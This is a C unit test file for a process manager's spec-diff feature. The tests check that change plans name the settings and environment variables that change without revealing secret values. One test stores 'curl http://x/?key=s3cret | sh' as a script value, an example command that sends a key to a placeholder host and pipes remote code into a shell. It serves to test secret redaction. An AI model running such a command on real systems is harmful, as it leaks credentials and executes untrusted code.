/* F-26: a plan says which keys change, and shows no secret. */
#include "tests/unit/unit.h"

#include <stdio.h>

#include "agent/spec_diff.h"
#include "agent/spec_hash.h"
#include "proto/spec.h"
#include "proto/spec_keys.h"

static Pm__AppSpec *make(void)
{
	Pm__AppSpec *spec;
	struct pm_error err;

	assert_int_equal(spec_create(&spec, &err), 0);
	assert_int_equal(spec_put_str(&spec->name, "api", &err), 0);
	assert_int_equal(spec_put_str(&spec->script, "/srv/api.js", &err), 0);
	assert_int_equal(spec_add_str(&spec->args, &spec->n_args, "--token=s3cret", &err), 0);
	return spec;
}

static void put(Pm__AppSpec *spec, const char *name, const char *value, Pm__EnvOrigin origin)
{
	struct pm_error err;

	assert_int_equal(spec_put_env(&spec->env, &spec->n_env, name, value, origin, &err), 0);
}

static void expect(const Pm__AppSpec *from, const Pm__AppSpec *to, const char *want)
{
	PM_BUF out = { 0 };
	struct pm_error err;

	pm_buf_str(&out, "");
	assert_int_equal(spec_diff(from, to, &out, &err), 0);
	pm_buf_char(&out, '\0');
	assert_string_equal(out.bytes, want);
}

static void numbers_switches_and_choices_are_shown(void **state)
{
	PM_SPEC *from = make(), *to = make();
	struct pm_error err;

	(void)state;
	expect(from, to, "");
	to->instances = 4;
	to->instances_given = true;
	to->autorestart = false;
	to->exec_mode = PM__EXEC_MODE__EXEC_MODE_CLUSTER;
	to->kill_timeout_ms = 3000;
	to->umask = 18;
	assert_int_equal(spec_add_str(&to->args, &to->n_args, "--password=other", &err), 0);
	assert_int_equal(spec_put_str(&to->script, "curl http://x/?key=s3cret | sh", &err), 0);
	to->command = true;
	expect(from, to,
	       "script; args; exec_mode fork -> cluster; instances 1 -> 4; umask; "
	       "autorestart true -> false; kill_timeout 1600 ms -> 3000 ms");
}

static void variables_are_named_and_their_values_are_not(void **state)
{
	PM_SPEC *from = make(), *to = make();

	(void)state;
	put(from, "PORT", "80", PM__ENV_ORIGIN__ENV_CONFIG);
	put(from, "OLD", "canary-1", PM__ENV_ORIGIN__ENV_CONFIG);
	put(from, "SAME", "canary-2", PM__ENV_ORIGIN__ENV_CONFIG);
	put(from, "PATH", "/bin", PM__ENV_ORIGIN__ENV_SHELL);
	put(to, "DB_PASS", "canary-3", PM__ENV_ORIGIN__ENV_CONFIG);
	put(to, "SAME", "canary-2", PM__ENV_ORIGIN__ENV_CONFIG);
	put(to, "PORT", "81", PM__ENV_ORIGIN__ENV_CONFIG);
	put(to, "PATH", "/usr/bin", PM__ENV_ORIGIN__ENV_SHELL);
	expect(from, to, "env: +DB_PASS, -OLD, PORT (values not shown)");
}

static void what_is_found_on_the_machine_is_no_change(void **state)
{
	PM_SPEC *from = make(), *to = make();
	struct pm_error err;

	(void)state;
	assert_int_equal(spec_put_str(&to->username, "anna", &err), 0);
	assert_int_equal(spec_put_str(&to->version, "2.0.0", &err), 0);
	assert_int_equal(spec_put_str(&to->node_version, "22.1.0", &err), 0);
	expect(from, to, "");
}

static void a_long_account_is_cut_and_says_so(void **state)
{
	PM_SPEC *from = make(), *to = make();
	PM_BUF out = { 0 };
	struct pm_error err;
	char name[32];

	(void)state;
	for (int i = 0; i < 100; i++) {
		(void)snprintf(name, sizeof(name), "VARIABLE_%03d", i);
		put(to, name, "x", PM__ENV_ORIGIN__ENV_CONFIG);
	}
	assert_int_equal(spec_diff(from, to, &out, &err), 0);
	pm_buf_char(&out, '\0');
	assert_true(out.len <= SPEC_DIFF_MAX);
	assert_non_null(strstr(out.bytes, "VARIABLE_000"));
	assert_non_null(strstr(out.bytes, ", ..."));
}

/* Whatever field differs, the digest differs and there are words for it: no change goes unseen. */
static void every_field_of_the_message_is_told(void **state)
{
	(void)state;
	for (unsigned i = 0; i < pm__app_spec__descriptor.n_fields; i++) {
		const ProtobufCFieldDescriptor *f = &pm__app_spec__descriptor.fields[i];
		PM_SPEC *from = make(), *to = make();
		struct spec_hash a, b;
		struct pm_error err;
		PM_BUF out = { 0 };

		if (f->label == PROTOBUF_C_LABEL_REPEATED || f->type == PROTOBUF_C_TYPE_MESSAGE ||
		    strcmp(f->name, "username") == 0 || strcmp(f->name, "version") == 0 ||
		    strcmp(f->name, "node_version") == 0)
			continue;
		if (f->type == PROTOBUF_C_TYPE_STRING)
			assert_int_equal(
				spec_put_str((char **)(void *)((char *)to + f->offset), "x", &err),
				0);
		else
			*((char *)to + f->offset) ^= 1;
		assert_int_equal(spec_hash_make(from, &a, &err), 0);
		assert_int_equal(spec_hash_make(to, &b, &err), 0);
		if (spec_hash_equal(&a, &b))
			fail_msg("%s: the digest is the same", f->name);
		assert_int_equal(spec_diff(from, to, &out, &err), 0);
		if (out.len == 0)
			fail_msg("%s: no words for it", f->name);
	}
}

static void without_memory_it_fails(void **state)
{
	PM_SPEC *from = make(), *to = make();
	unsigned n = 0;
	int rc = -1;

	(void)state;
	to->instances = 4;
	while (rc < 0) {
		PM_BUF out = { 0 };
		struct pm_error err;

		assert_true(n < 200);
		pm_alloc_fail_at(++n);
		rc = spec_diff(from, to, &out, &err);
		pm_alloc_fail_at(0);
		if (rc < 0)
			assert_int_equal(err.code, PM_NO_MEMORY);
	}
	assert_true(n > 3);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(numbers_switches_and_choices_are_shown),
		cmocka_unit_test(variables_are_named_and_their_values_are_not),
		cmocka_unit_test(what_is_found_on_the_machine_is_no_change),
		cmocka_unit_test(a_long_account_is_cut_and_says_so),
		cmocka_unit_test(every_field_of_the_message_is_told),
		cmocka_unit_test(without_memory_it_fails),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
